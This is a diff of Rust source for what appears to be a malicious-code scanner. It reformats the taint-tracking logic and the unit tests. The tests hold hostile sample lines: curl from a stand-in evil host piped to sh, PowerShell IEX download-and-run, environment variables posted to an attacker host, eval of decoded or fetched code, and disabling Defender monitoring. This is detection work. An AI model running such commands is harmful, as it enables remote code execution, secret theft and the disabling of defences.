@@ -181,11 +181,21 @@ pub(crate) fn read(text: &str, reading: &Reading<'_>) -> Vec<Hit> {
         .find_iter(&lower)
         .filter_map(|found| {
             let (spelling, marker) = *MARKERS.get(found.pattern().as_usize())?;
-            let word_before = lower.as_bytes().get(found.start().checked_sub(1)?).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
+            let word_before = lower
+                .as_bytes()
+                .get(found.start().checked_sub(1)?)
+                .is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
             let starts_word = spelling.as_bytes().first().is_some_and(u8::is_ascii_alphanumeric);
             // `regex.exec(` and `pattern.exec(` match texts.
-            let method = spelling == "exec(" && lower.get(..found.start()).is_some_and(|before| before.ends_with('.') && !before.ends_with("process.") && !before.ends_with("cp."));
-            (!(word_before && starts_word) && !method).then_some(Found { marker, start: found.start(), end: found.end() })
+            let method = spelling == "exec("
+                && lower.get(..found.start()).is_some_and(|before| {
+                    before.ends_with('.') && !before.ends_with("process.") && !before.ends_with("cp.")
+                });
+            (!(word_before && starts_word) && !method).then_some(Found {
+                marker,
+                start: found.start(),
+                end: found.end(),
+            })
         })
         .chain(first_marker(&lower))
         .collect();
@@ -229,7 +239,9 @@ impl<'r> Eye<'r> {
                 }
                 if taint != Taint::NONE {
                     let left = line.get(..at).unwrap_or_default();
-                    for name in names(left).filter(|name| !matches!(*name, "const" | "let" | "var" | "export" | "of" | "string")) {
+                    for name in names(left)
+                        .filter(|name| !matches!(*name, "const" | "let" | "var" | "export" | "of" | "string"))
+                    {
                         if self.names.len() < NAMES_MAX {
                             let known = self.names.entry(name).or_default();
                             *known = known.and(taint);
@@ -254,7 +266,8 @@ impl<'r> Eye<'r> {
                 Marker::Source(source) => source,
                 Marker::Env => env(self.lower, found.end, self.reading.intent),
                 Marker::File => {
-                    let args = self.lower.get(found.end..arguments_end(self.lower, found.end)).unwrap_or_default();
+                    let args =
+                        self.lower.get(found.end..arguments_end(self.lower, found.end)).unwrap_or_default();
                     Taint::of_place(place::place(&place::joined(args))).read()
                 }
                 Marker::Net => Taint::REMOTE,
@@ -276,7 +289,10 @@ impl<'r> Eye<'r> {
 
     fn report(&mut self) {
         for found in self.found.clone() {
-            let by_line = !self.lower.get(found.start..found.end).is_some_and(|text| text.ends_with('(') || text.ends_with('.'));
+            let by_line = !self
+                .lower
+                .get(found.start..found.end)
+                .is_some_and(|text| text.ends_with('(') || text.ends_with('.'));
             let (start, end) = if by_line {
                 (line_start(self.lower, found.start), statement_end(self.lower, found.end))
             } else {
@@ -316,7 +332,10 @@ impl<'r> Eye<'r> {
     fn execute(&mut self, found: Found, start: usize, end: usize) {
         let mut taint = self.taint(start, end);
         // `fetch(x).then(r => r.text()).then(code => eval(code))`
-        let before = self.lower.get(self.lower.floor_char_boundary(found.start.saturating_sub(300))..found.start).unwrap_or_default();
+        let before = self
+            .lower
+            .get(self.lower.floor_char_boundary(found.start.saturating_sub(300))..found.start)
+            .unwrap_or_default();
         if before.contains(".then(") && (before.contains("fetch(") || before.contains("axios")) {
             taint = taint.and(Taint::REMOTE);
         }
@@ -333,7 +352,8 @@ impl<'r> Eye<'r> {
         let args = self.text.get(start..end).unwrap_or_default();
         let first = args.split(',').next().unwrap_or_default();
         let taint = self.taint(start, start + first.len());
-        if taint.has(Taint::DECODED.and(Taint::REMOTE)) && names(first).next().is_some_and(|name| self.names.contains_key(name.to_lowercase().as_str()))
+        if taint.has(Taint::DECODED.and(Taint::REMOTE))
+            && names(first).next().is_some_and(|name| self.names.contains_key(name.to_lowercase().as_str()))
             && let Some(rule) = executed(taint)
         {
             self.add(rule, found.start, end);
@@ -402,7 +422,12 @@ fn env(lower: &str, end: usize, intent: &Intent) -> Taint {
     let stop = name.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(name.len());
     match name.get(..stop) {
         Some("") | None => Taint::ENV,
-        Some(_) if !rest.starts_with(['.', '[', '(', '?', '\'', '"']) && !lower.get(..end).is_some_and(|before| before.ends_with([':', '[', '('])) => Taint::ENV,
+        Some(_)
+            if !rest.starts_with(['.', '[', '(', '?', '\'', '"'])
+                && !lower.get(..end).is_some_and(|before| before.ends_with([':', '[', '('])) =>
+        {
+            Taint::ENV
+        }
         Some("get") => Taint::TOKEN,
         Some("computername" | "username" | "userdomain") => Taint::HOST,
         Some(name) => of_variable(name, intent),
@@ -415,14 +440,19 @@ fn assignment(line: &str) -> Option<usize> {
     (0..bytes.len().min(STATEMENT_MAX)).find(|at| {
         bytes.get(*at) == Some(&b'=')
             && !matches!(bytes.get(at + 1), Some(b'=' | b'>' | b'~'))
-            && !at.checked_sub(1).and_then(|before| bytes.get(before)).is_some_and(|byte| matches!(byte, b'=' | b'!' | b'<' | b'>'))
+            && !at
+                .checked_sub(1)
+                .and_then(|before| bytes.get(before))
+                .is_some_and(|byte| matches!(byte, b'=' | b'!' | b'<' | b'>'))
     })
 }
 
 /// The names in a text.
 fn names(text: &str) -> impl Iterator<Item = &str> {
     text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '$').filter(|name| {
-        name.bytes().next().is_some_and(|byte| byte.is_ascii_alphabetic() || byte == b'_' || byte == b'$') && name.len() > 1 || name.len() == 1
+        name.bytes().next().is_some_and(|byte| byte.is_ascii_alphabetic() || byte == b'_' || byte == b'$')
+            && name.len() > 1
+            || name.len() == 1
     })
 }
 
@@ -476,15 +506,28 @@ mod tests {
                 .contains(&"credential-files-to-network")
         );
         assert!(rules("fetch(u).then(r => r.text()).then(c => eval(c))").contains(&"run-remote-code"));
-        assert!(rules("const c = Buffer.from(x, 'base64').toString();\neval(c);").contains(&"run-decoded-code"));
-        assert!(rules("require('child_process').execSync('curl https://x.evil.io/a | sh')").contains(&"download-and-run"));
-        assert_eq!(rules("const key = process.env.API_KEY;\nfetch('https://api.x.io', {headers: {Authorization: key}})"), [""; 0]);
+        assert!(
+            rules("const c = Buffer.from(x, 'base64').toString();\neval(c);").contains(&"run-decoded-code")
+        );
+        assert!(
+            rules("require('child_process').execSync('curl https://x.evil.io/a | sh')")
+                .contains(&"download-and-run")
+        );
+        assert_eq!(
+            rules(
+                "const key = process.env.API_KEY;\nfetch('https://api.x.io', {headers: {Authorization: key}})"
+            ),
+            [""; 0]
+        );
     }
 
     #[test]
     fn powershell_is_followed() {
         assert!(rules("IEX (New-Object Net.WebClient).DownloadString('http://x.evil.io/a')\nInvoke-Expression (iwr x)").is_empty() == false);
-        assert!(rules("$c = Invoke-WebRequest https://x.evil.io/a\nInvoke-Expression $c.Content").contains(&"run-remote-code"));
+        assert!(
+            rules("$c = Invoke-WebRequest https://x.evil.io/a\nInvoke-Expression $c.Content")
+                .contains(&"run-remote-code")
+        );
         assert!(rules("$e = Get-ChildItem Env: | Out-String\nInvoke-RestMethod -Uri https://c.evil.io -Method Post -Body $e").contains(&"environment-to-network"));
         assert!(rules("Set-MpPreference -DisableRealtimeMonitoring $true").contains(&"defences-off"));
     }
